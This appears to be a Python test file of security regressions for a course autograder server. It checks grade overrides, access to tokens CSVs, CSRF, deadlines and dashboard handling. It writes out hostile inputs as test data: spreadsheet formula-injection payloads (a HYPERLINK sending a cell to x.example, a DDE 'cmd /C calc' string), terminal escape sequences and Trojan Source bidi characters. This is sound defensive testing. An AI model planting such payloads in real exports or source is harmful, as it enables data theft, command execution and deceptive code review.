"""Attacks on issue 27's staff decisions, pages and exports (a student after a better grade
or another's data; a careless TA), kept as regressions: each failed before its fix (an
upload parsed in the web process, unchecked function overrides, hidden feedback before a
student's own deadline, flagged runs lost at the upgrade, a moved deadline not recounted,
bidi overrides on the review page, another TA's tokens CSV, formulas in `dlopt staff
tokens-csv`, a year-9999 extension, messages written in a link, test names with a slash);
the others are attacks that held."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta

import pytest

from server.auth import csrf_for

from server_course import fake_source as src
from server_course import final_row as final


# -- overrides ----------------------------------------------------------------------------------
def test_a_function_override_cannot_lift_the_score_above_the_assignments_points(graded):
    c = graded
    c.wait_graded(c.submit("alice", "open", src(10)).json()["submission"]["id"])
    # double's tests are worth 4 of the 10 points; the override's bound is the assignment's 10
    r = c.post("ta1", "/api/v1/assignments/open/overrides",
               json={"login": "alice", "function": "double", "score": 10, "reason": "typed the wrong box"})
    assert r.status_code == 422 or final(c, "open", "alice")["score"] <= 10, final(c, "open", "alice")


def test_a_function_override_of_a_name_no_test_grades_is_refused(graded):
    c = graded
    c.wait_graded(c.submit("alice", "open", src(6)).json()["submission"]["id"])
    # a typo in the function's name: no test grades "dubble", so its override adds 3 points
    r = c.post("ta1", "/api/v1/assignments/open/overrides",
               json={"login": "alice", "function": "dubble", "score": 3, "reason": "partial credit"})
    assert r.status_code == 422, (r.status_code, final(c, "open", "alice"))


def test_zeroing_a_function_no_test_grades_is_refused_not_a_silent_no_op(graded):
    c = graded
    sid = c.submit("alice", "open", src(10, "# fake-flag\n")).json()["submission"]["id"]
    c.wait_graded(sid)
    r = c.post("ta1", f"/api/v1/submissions/{sid}/review",
               json={"action": "zeroed", "function": "helper", "reason": "getattr in the helper"})
    # the student reads "zeroed" with the reason, but the score is still 10
    assert r.status_code == 422 or final(c, "open", "alice")["score"] < 10


# -- the one-time tokens CSV ---------------------------------------------------------------------
def test_the_tokens_csv_is_for_the_ta_who_imported_the_roster_only(graded):
    c = graded
    r = c.post("admin", "/api/v1/roster", files={"file": ("r.csv", "login,role\nta2,ta\n")})
    c.tokens.update(r.json()["tokens"])
    secret = c.sign_in("ta1")
    page = c.client.post("/ui/roster", data={"csrf": csrf_for(secret)},
                         files={"file": ("r.csv", "login,name\nnew1,New One\n")}).text
    link = re.search(r'href="(/ui/roster/tokens/[^"]+\.csv)"', page).group(1)
    c.sign_in("ta2")
    got = c.client.get(link)
    c.client.cookies.clear()
    assert got.status_code in (403, 404), "another TA downloaded ta1's new tokens: " + got.text[:80]


def test_a_student_cannot_download_the_tokens_csv(graded):
    c = graded
    secret = c.sign_in("ta1")
    page = c.client.post("/ui/roster", data={"csrf": csrf_for(secret)},
                         files={"file": ("r.csv", "login,name\nnew1,New One\n")}).text
    link = re.search(r'href="(/ui/roster/tokens/[^"]+\.csv)"', page).group(1)
    c.sign_in("alice")
    assert c.client.get(link, follow_redirects=False).status_code == 403
    c.sign_in("ta1")
    assert c.client.get(link).status_code == 200  # still there: the student's try did not use it up
    c.client.cookies.clear()


def test_dlopt_staff_tokens_csv_escapes_formulas_and_terminal_escapes(tmp_path):
    from types import SimpleNamespace

    from autograder.cli import staff

    roster = tmp_path / "roster.csv"
    roster.write_text('login,name,email\neve,"=HYPERLINK(""http://x.example/?""&A1,""grades"")",\x1b]0;pwned\x07e@x\n')

    class FakeServer:
        def upload(self, path, name, data, fields=None):
            return {"created": ["eve"], "updated": [], "tokens": {"eve": "dlopt_secret"}}

    out = tmp_path / "tokens.csv"
    staff.cmd_tokens_csv(SimpleNamespace(roster=str(roster), reissue=False, output=str(out)), FakeServer())
    row = next(r for r in csv.DictReader(io.StringIO(out.read_text())) if r["login"] == "eve")
    assert not row["name"].startswith("="), row  # the server's own tokens CSV goes through csv_cell
    assert "\x1b" not in row["email"], row


# -- what the review page shows -------------------------------------------------------------------
def test_the_review_page_shows_bidi_overrides_in_the_source_as_escapes(graded):
    c = graded
    # Trojan Source: the TA reads a harmless comment, Python runs the getattr
    text = ("# fake-score: 10\n# fake-flag\ndef double(x):\n"
            "    return 2 * x  # \u202e }) ;'ok' = s ⁦\u2066\n")
    sid = c.submit("alice", "open", text).json()["submission"]["id"]
    c.wait_graded(sid)
    c.sign_in("ta1")
    page = c.client.get(f"/ui/ta/submissions/{sid}/review").text
    c.client.cookies.clear()
    assert "\u202e" not in page and "\u2066" not in page  # the similarity pages show them as escapes


# -- the syntax-error refusal runs the parser in the web process -----------------------------------
def test_an_upload_refused_for_a_syntax_error_is_not_parsed_in_the_web_process(graded):
    """A 2 MB `x = [1,1,...]` costs ~20 s of CPU (holding the GIL) and ~1 GB in the server
    process, and, followed by a syntax error, is refused without counting: unbounded. The
    engine's own reader runs hostile files in a bounded child (extract_bounded)."""
    import tracemalloc

    c = graded

    def peak_of(text: str):
        tracemalloc.start()
        try:
            r = c.submit("alice", "open", text)
            return r, tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    head = "def double(x):\n    return 2 * x\n"
    benign, quiet = peak_of(head + "# [" + "1," * 60_000 + "]\n)\n")  # 120 KB, the same bytes in a comment
    r, peak = peak_of(head + "x = [" + "1," * 60_000 + "]\n)\n")      # 120 KB of list
    assert benign.status_code == r.status_code == 422 and "syntax error" in r.text
    assert c.get("alice", "/api/v1/assignments/open").json()["submissions_today"] == 0  # not counted: repeatable
    assert peak < 3 * quiet, (f"the web process allocated {peak >> 20} MiB to refuse a 120 KB list "
                              f"({quiet >> 20} MiB for the same bytes as a comment)")


# -- deadlines and feedback ------------------------------------------------------------------------
def test_feedback_after_the_deadline_waits_for_the_students_own_deadline(graded):
    c = graded  # past_last: the course deadline passed an hour ago; feedback_after_deadline = true
    r = c.post("ta1", "/api/v1/assignments/past_last/extensions",
               json={"login": "alice", "deadline": (datetime.now(UTC) + timedelta(days=60)).isoformat(), "reason": "accommodation"})
    assert r.status_code == 201
    sid = c.submit("alice", "past_last", src(4)).json()["submission"]["id"]
    c.wait_graded(sid)
    tests = {t["name"]: t for t in c.get("alice", f"/api/v1/submissions/{sid}").json()["run"]["tests"]}
    # alice may still submit for decades, without penalty, and reads what the hidden tests expect
    assert tests["test_hidden"]["feedback"] is None, tests["test_hidden"]
    assert tests["test_after"]["feedback"] is None, tests["test_after"]


def test_moving_the_course_deadline_counts_the_lateness_again(graded, make_course, course):
    c = graded  # late: deadline 2.5 days ago, 10% a day
    c.wait_graded(c.submit("alice", "late", src(10)).json()["submission"]["id"])
    assert final(c, "late", "alice")["score"] == 7.0
    # the instructor moves the whole class's deadline (assignment.toml) and restarts the server
    toml = course / "late" / "assignment.toml"
    later = (datetime.now(UTC) + timedelta(days=7)).isoformat()
    toml.write_text(re.sub(r'deadline = "[^"]+"', f'deadline = "{later}"', toml.read_text()))
    c2 = make_course()
    c2.tokens = c.tokens
    assert c2.get("alice", "/api/v1/assignments/late").json()["state"] == "open"
    row = final(c2, "late", "alice")
    assert row["days_late"] == 0 and row["score"] == 10.0, row


def test_an_extension_far_in_the_future_does_not_break_the_students_pages(graded):
    c = graded  # late: grace 15 minutes, 3 days at most
    r = c.post("ta1", "/api/v1/assignments/late/extensions",
               json={"login": "alice", "deadline": "9999-12-31T23:59:00+00:00", "reason": "until further notice"})
    if r.status_code == 422:
        return  # refused: fine
    assert r.status_code == 201
    assert c.get("alice", "/api/v1/assignments/late").status_code == 200
    assert c.submit("alice", "late", src(10)).status_code == 201


def test_a_datetime_local_extension_is_read_in_the_courses_zone(make_course, course):
    from conftest import write_assignment

    write_assignment(course, "eastern", deadline=datetime(2026, 12, 10, 23, 59, tzinfo=UTC).astimezone(
        __import__("datetime").timezone(timedelta(hours=-5))))
    c = make_course()
    secret = c.sign_in("ta1")
    r = c.client.post("/ui/ta/eastern/students/alice/extension", follow_redirects=False,
                      data={"deadline": "2026-12-12T23:59", "reason": "flu", "csrf": csrf_for(secret)})
    c.client.cookies.clear()
    assert r.status_code == 303
    got = c.get("alice", "/api/v1/assignments/eastern").json()["deadline"]
    assert datetime.fromisoformat(got) == datetime(2026, 12, 13, 4, 59, tzinfo=UTC)


# -- the dashboard ---------------------------------------------------------------------------------
def test_the_dashboard_does_not_show_a_status_message_written_in_a_link(graded):
    c = graded
    c.sign_in("ta1")
    forged = "Roster import failed: sign in again at https://dlopt-login.example.net"
    page = c.client.get("/ui/ta/open", params={"done": forged}).text
    c.client.cookies.clear()
    assert forged not in page


def test_the_drill_down_serves_a_test_whose_name_has_a_slash(graded):
    c = graded
    c.sign_in("ta1")
    r = c.client.get("/ui/ta/open/tests/test_shape%5Bfp16%2Fcuda%5D")
    c.client.cookies.clear()
    assert r.status_code == 200, r.status_code  # the chart links there with quote(name, safe='')


@pytest.mark.parametrize("query", ["page=0", "page=999999", "page=-1", "sort=__class__", "show=<x>", "desc=maybe",
                                   "q=" + "a" * 5000])
def test_dashboard_paging_and_sorting_out_of_range(graded, query):
    c = graded
    c.sign_in("ta1")
    r = c.client.get(f"/ui/ta/open?{query}")
    c.client.cookies.clear()
    assert r.status_code in (200, 422)


# -- access and CSRF (held) -----------------------------------------------------------------------
STAFF_API = [
    ("post", "/api/v1/assignments/open/extensions", {"json": {"login": "alice", "late_days": 3, "reason": "x"}}),
    ("post", "/api/v1/assignments/open/extensions.csv",
     {"files": {"file": ("e.csv", "login,late_days,reason\nalice,3,x\n")}}),
    ("get", "/api/v1/assignments/open/extensions", {}),
    ("post", "/api/v1/assignments/open/overrides", {"json": {"login": "alice", "score": 10, "reason": "x"}}),
    ("get", "/api/v1/assignments/open/flags?unreviewed=false", {}),
    ("post", "/api/v1/submissions/{sid}/review", {"json": {"action": "cleared", "reason": "x"}}),
    ("post", "/api/v1/assignments/open/release", {"json": {"released": True, "reason": "x"}}),
    ("get", "/api/v1/assignments/open/students/bob/history", {}),
    ("get", "/api/v1/assignments/open/tests/test_hidden/failures", {}),
    ("get", "/api/v1/assignments/open/similarity?sources=true", {}),
]


def test_a_student_calls_no_staff_decision_api(graded):
    c = graded
    sid = c.submit("bob", "open", src(10, "# fake-flag\n")).json()["submission"]["id"]
    c.wait_graded(sid)
    for method, url, kw in STAFF_API:
        r = getattr(c, method)("alice", url.format(sid=sid), **kw)
        assert r.status_code == 403, (url, r.status_code, r.text[:200])
    assert c.get("alice", f"/api/v1/submissions/{sid}").status_code == 404


STAFF_PAGES_GET = ["/ui/ta/open/flags?all=true", "/ui/ta/submissions/{sid}/review", "/ui/ta/open/tests/test_hidden",
                   "/ui/ta/open/students/bob", "/ui/ta/open/similarity", "/ui/ta/open/similarity/1",
                   "/ui/ta/open/gradescope.zip", "/ui/ta/open/scores.csv"]
STAFF_FORMS = [("/ui/ta/submissions/{sid}/review", {"action": "zeroed", "function": "double", "reason": "x"}, None),
               ("/ui/ta/open/students/bob/extension", {"late_days": "3", "reason": "x"}, None),
               ("/ui/ta/open/students/bob/override", {"score": "10", "reason": "x"}, None),
               ("/ui/ta/open/release", {"released": "1"}, None),
               ("/ui/ta/open/extensions.csv", {"reason": "x"}, {"file": ("e.csv", "login,late_days\nbob,3\n")}),
               ("/ui/ta/open/similarity", {}, None)]


def test_a_student_opens_no_staff_page_and_posts_no_staff_form(graded):
    c = graded
    sid = c.submit("bob", "open", src(10, "# fake-flag\n")).json()["submission"]["id"]
    c.wait_graded(sid)
    secret = c.sign_in("alice")
    for url in STAFF_PAGES_GET:
        r = c.client.get(url.format(sid=sid), follow_redirects=False)
        assert r.status_code == 403, (url, r.status_code)
    for url, data, files in STAFF_FORMS:
        r = c.client.post(url.format(sid=sid), data={**data, "csrf": csrf_for(secret)}, files=files,
                          follow_redirects=False)
        assert r.status_code in (403, 422), (url, r.status_code)
    c.client.cookies.clear()
    assert final(c, "open", "bob")["score"] == 10 and not final(c, "open", "bob")["extended"]


def test_every_new_staff_form_needs_its_csrf_value_and_our_origin(graded):
    c = graded
    sid = c.submit("bob", "open", src(10, "# fake-flag\n")).json()["submission"]["id"]
    c.wait_graded(sid)
    secret = c.sign_in("ta1")
    for url, data, files in STAFF_FORMS:
        for extra, headers in (({}, {}), ({"csrf": "x" * 43}, {}),
                               ({"csrf": csrf_for(secret)}, {"Origin": "https://evil.example"})):
            r = c.client.post(url.format(sid=sid), data={**data, **extra}, files=files, headers=headers,
                              follow_redirects=False)
            assert r.status_code == 403, (url, extra, headers, r.status_code)
    c.client.cookies.clear()
    row = final(c, "open", "bob")
    assert row["score"] == 10 and not row["extended"] and not row["function_overrides"]


def test_the_late_confirmation_cannot_be_skipped_from_the_page(graded):
    c = graded
    secret = c.sign_in("alice")
    for accept in ("", "-1", "2", "abc"):
        r = c.client.post("/ui/assignments/late/submit", data={"csrf": csrf_for(secret), "accept_days_late": accept},
                          files={"file": ("s.py", src(10).encode())}, follow_redirects=False)
        assert r.status_code in (409, 422), (accept, r.status_code)
    c.client.cookies.clear()
    assert c.get("ta1", "/api/v1/assignments/late/scores").json()["rows"][0]["submissions"] == 0


def test_csv_exports_escape_names_that_are_formulas(graded):
    c = graded
    roster = 'login,name,lms_id\nmallory,"=cmd|\' /C calc\'!A0",+1\n'
    assert c.post("ta1", "/api/v1/roster", files={"file": ("r.csv", roster)}).status_code == 200
    for fmt in ("generic", "canvas"):
        text = c.get("ta1", f"/api/v1/assignments/open/scores.csv?format={fmt}").text.lstrip("\ufeff")
        for row in csv.reader(io.StringIO(text)):
            assert not any(cell[:1] in ("=", "+", "@") for cell in row), (fmt, row)


# -- a flagged run graded before the upgrade --------------------------------------------------------
@pytest.mark.every_database  # a migration's backfill: both databases
def test_flagged_runs_graded_before_the_upgrade_stay_in_the_review_queue(database_url):
    from alembic import command
    from sqlalchemy import MetaData, create_engine, select

    from server.db import alembic_config, migrate

    engine = create_engine(database_url)
    if database_url.startswith("sqlite"):
        from pathlib import Path
        Path(database_url.split("///", 1)[1]).parent.mkdir(parents=True, exist_ok=True)
    cfg = alembic_config(database_url)
    with engine.begin() as conn:
        cfg.attributes["connection"] = conn
        command.upgrade(cfg, "0002")  # the schema of the release before issue 27
    md = MetaData()
    md.reflect(engine)
    now = datetime.now(UTC).replace(tzinfo=None)
    t = md.tables
    with engine.begin() as conn:
        uid = conn.execute(t["users"].insert().values(login="alice", name="A", email="", role="student", active=True,
                                                      created_at=now)).inserted_primary_key[0]
        aid = conn.execute(t["assignments"].insert().values(
            slug="open", title="o", points=10, gpu="none", timezone="UTC", late_policy={}, score_policy="best",
            feedback_after_deadline=False, active=True, loaded_at=now)).inserted_primary_key[0]
        sid = conn.execute(t["submissions"].insert().values(
            user_id=uid, assignment_id=aid, created_at=now, filename="s.py", kind="py", content_hash="0" * 64,
            size=1, late=False, days_late=0, source="upload")).inserted_primary_key[0]
        conn.execute(t["grading_runs"].insert().values(
            submission_id=sid, reason="submit", status="done", queue="cpu", attempts=1, enqueued_at=now, score=10,
            max_score=10, result={"flags": [{"construct": "getattr with a computed name", "function": "double",
                                             "line": 2}], "tests": []}))
    migrate(engine)
    with engine.connect() as conn:
        runs = MetaData()
        runs.reflect(conn, only=["grading_runs"])
        count = conn.execute(select(runs.tables["grading_runs"].c.flag_count)).scalar_one()
    engine.dispose()
    assert count == 1, "the flagged run graded before the upgrade has flag_count 0: it never reaches the queue"
